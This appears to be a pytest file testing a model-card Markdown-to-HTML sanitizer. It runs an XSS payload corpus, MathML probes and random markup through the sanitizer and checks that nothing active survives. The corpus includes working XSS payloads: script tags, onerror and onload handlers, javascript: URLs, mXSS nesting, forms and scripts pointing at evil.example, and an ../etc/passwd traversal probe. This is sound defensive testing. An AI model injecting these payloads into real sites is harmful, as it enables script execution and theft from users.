"""The model-card sanitizer (web/markup.py) against an XSS corpus and random markup: whatever a card
holds, the HTML it becomes runs nothing, loads nothing active and cannot restyle the page, while the
HTML real cards use survives (issue 14)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aicommons.web.markup import RepoLinks, markdown_to_safe_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" OnErRoR=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1) )",
    "![x](javascript:alert(1))",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<object data=\"x.swf\"></object>", "<embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p class=\"notice\">Your session expired, sign in again</p>",
    "<span class=\"hl-k badge\">x</span>",
    "<a id=\"main\" href=\"#main\">hijack the skip link</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    # Math-shaped probes: formulas become MathML, sanitized apart from the card's own HTML.
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{\\text{click}}$$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$</math><img src=x onerror=alert(1)>$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "$x$<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=\"statusline\" href=\"javascript:alert(1)\"><mi>x</mi></maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "$\\color{red}{x}\\style{position:fixed}{y}$",
    "$\\class{notice}{x}\\id{main}{y}$",
    "$x$ math0:",  # a forged marker without the render's nonce stays text
    "<p title=\"$x$\">$y$</p>",
    "[$x$](javascript:alert(1))",
]
MATH_REGION = re.compile(r"<math\b.*?</math>", re.S)
MATH_TAG = re.compile(r"<(/?)([a-z-]+)([^>]*)>")


def math_problems(region: str) -> list[str]:
    """A formula's MathML holds only the allowed elements with their layout attributes."""
    from aicommons.web.markup import MATH_ATTRIBUTES, MATH_TAGS

    problems = []
    for closing, tag, attrs in MATH_TAG.findall(region):
        if tag not in MATH_TAGS:
            problems.append(f"math tag {tag}")
        elif not closing:
            names = re.findall(r'\s([a-zA-Z:-]+)="', attrs)
            problems += [f"math attribute {n}" for n in names if n not in MATH_ATTRIBUTES[tag]]
    return problems


ACTIVE = [
    re.compile(r"<\s*(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|template|body)\b", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"(href|src|action|formaction|background|srcdoc)\s*=\s*\"?\s*(javascript|vbscript|data):", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\starget\s*=", re.I),
]
LINKS = RepoLinks("/alice/model", "main")


class TagCollector(HTMLParser):
    """The raw text of every tag, as a browser would split it (a quoted ">" stays inside its tag)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(self.get_starttag_text())

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.tags.append(f"</{tag}>")


def tag_text(html: str) -> str:
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return " ".join(collector.tags)


def inert(html: str) -> list[str]:
    problems = [p for region in MATH_REGION.findall(html) for p in math_problems(region)]
    html = MATH_REGION.sub("", html)
    # Only markup can act: text that merely reads "onerror=" is escaped (&lt;img onerror=...&gt;) and
    # inert, so the patterns look at the tags alone.
    tags = tag_text(html)
    problems += [pattern.pattern for pattern in ACTIVE if pattern.search(tags)]
    for cls in re.findall(r'class="([^"]*)"', tags):
        problems += [f"class {c}" for c in cls.split() if not re.match(r"^(hl|hl-[a-z0-9]+|language-[\w+-]+)$", c)]
    problems += [f"id {i}" for i in re.findall(r'\sid="([^"]*)"', tags) if not i.startswith("user-content-")]
    return problems


@pytest.mark.parametrize("payload", XSS)
def test_the_xss_corpus_is_inert(payload):
    for html in (markdown_to_safe_html(payload), markdown_to_safe_html(payload, LINKS),
                 markdown_to_safe_html(f"# Card\n\n{payload}\n\ntext", LINKS)):
        assert not inert(html), (payload, html)


def test_what_real_cards_use_survives():
    html = markdown_to_safe_html(
        '<p align="center"><img src="assets/logo.png" alt="logo" width="200"></p>\n\n'
        '[![License](https://img.shields.io/badge/license-mit-blue)](LICENSE)\n\n'
        '<details><summary>Results</summary>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n</details>\n\n'
        'H<sub>2</sub>O and x<sup>2</sup>, <kbd>Ctrl</kbd>\n\n```python\nprint(1)\n```\n', LINKS)
    assert '<p align="center"><img src="/alice/model/resolve/main/assets/logo.png" alt="logo" width="200"></p>' in html
    assert 'href="/alice/model/blob/main/LICENSE"' in html and 'src="https://img.shields.io/badge/license-mit-blue"' in html
    assert "<details><summary>Results</summary>" in html and "<table" in html and "<td>1</td>" in html
    assert "<sub>2</sub>" in html and "<sup>2</sup>" in html and "<kbd>Ctrl</kbd>" in html
    assert '<span class="hl-nb">print</span>' in html
    assert 'rel="noopener noreferrer nofollow ugc"' in html


def test_math_becomes_mathml_without_javascript():
    html = markdown_to_safe_html(
        "Attention: $\\operatorname{softmax}(QK^\\top/\\sqrt{d_k})V$ costs $5 and $10, and `$code$` stays code.\n\n"
        "$$\n\\mathcal{L} = -\\sum_{i=1}^{n} y_i \\log \\hat{y}_i\n$$\n\n"
        "| term | value |\n|---|---|\n| $\\alpha$ | 0.1 |\n\nBroken: $\\frac{$ stays.", LINKS)
    regions = MATH_REGION.findall(html)
    assert len(regions) == 3, html
    assert 'display="inline"' in regions[0] and "<msqrt>" in regions[0] and "softmax" in regions[0]
    assert 'display="block"' in regions[1] and "<munderover>" in regions[1] and "∑" in regions[1]
    assert "<td><math" in html and "α" in regions[2]
    assert "costs $5 and $10" in html and "<code>$code$</code>" in html
    assert "<code>$\\frac{$</code>" in html  # what latex2mathml cannot read is shown as its source
    assert not any(math_problems(r) for r in regions)


def test_a_cards_own_mathml_is_dropped():
    html = markdown_to_safe_html("<math><mi>x</mi></math> and $y$")
    assert len(MATH_REGION.findall(html)) == 1 and "<mi>y</mi>" in html and "<mi>x</mi>" not in html


def test_card_images_get_their_pixel_sizes():
    from aicommons.hub.image_sizes import image_size
    from aicommons.web.markup import add_image_sizes, image_paths
    from tests.e2e.test_accessibility import png

    html = markdown_to_safe_html('<img src="logo.png" width="120">\n\n![b](img/a%20b.png)\n\n'
                                 '<img src="https://x.example/y.png">\n\n<img src="c.png" height="50">\n\n'
                                 '<img src="d.png" width="50%">', LINKS)
    assert image_paths(html, LINKS) == ["logo.png", "img/a b.png", "c.png", "d.png"]
    sizes = {"logo.png": image_size(png(240, 80, (0, 0, 0))), "img/a b.png": (1200, 300), "c.png": (100, 200),
             "d.png": (10, 10)}
    assert sizes["logo.png"] == (240, 80)
    out = add_image_sizes(html, LINKS, sizes)
    assert re.search(r'<img height="40" src="[^"]*/logo.png" width="120">', out)  # the author's width kept
    assert re.search(r'<img width="1200" height="300" src="[^"]*/img/a%20b.png"', out)
    assert re.search(r'<img width="25" src="[^"]*/c.png" height="50">', out)
    assert '<img src="https://x.example/y.png">' in out and 'width="50%">' in out  # unknown: left alone
    assert image_size(b"GIF89a\x10\x00\x20\x00") == (16, 32) and image_size(b"not an image") is None


def test_relative_links_cannot_climb_out_of_the_repo():
    html = markdown_to_safe_html("[a](../../../etc/passwd) [b](sub/../c.md) ![c](/static/x.png) "
                                 "[d](x%2F..%2F..%2F..%2Fetc)", LINKS)
    assert "etc/passwd" not in html
    assert 'href="/alice/model/blob/main/c.md"' in html
    assert 'src="/static/x.png"' in html  # site-absolute paths stay on this hub


TAGS = st.sampled_from(["script", "img", "a", "svg", "iframe", "div", "p", "details", "style", "table", "b"])
ATTRS = st.sampled_from(["onerror", "onload", "href", "src", "style", "class", "id", "align", "formaction"])
VALUES = st.sampled_from(["javascript:alert(1)", "x", "notice", "main", "data:text/html,x", "alert(1)", "center"])


@st.composite
def markup(draw):
    parts = []
    for _ in range(draw(st.integers(1, 8))):
        tag = draw(TAGS)
        attrs = " ".join(f'{draw(ATTRS)}="{draw(VALUES)}"' for _ in range(draw(st.integers(0, 3))))
        parts.append(f"<{tag} {attrs}>{draw(st.text(max_size=10))}</{tag}>" if draw(st.booleans())
                     else f"[{draw(st.text(max_size=5))}]({draw(VALUES)})")
    return draw(st.sampled_from(["", "# t\n\n", "> q\n\n"])) + "\n".join(parts)


@settings(max_examples=300, deadline=None)
@given(markup())
def test_random_markup_stays_inert(text):
    assert not inert(markdown_to_safe_html(text, LINKS))
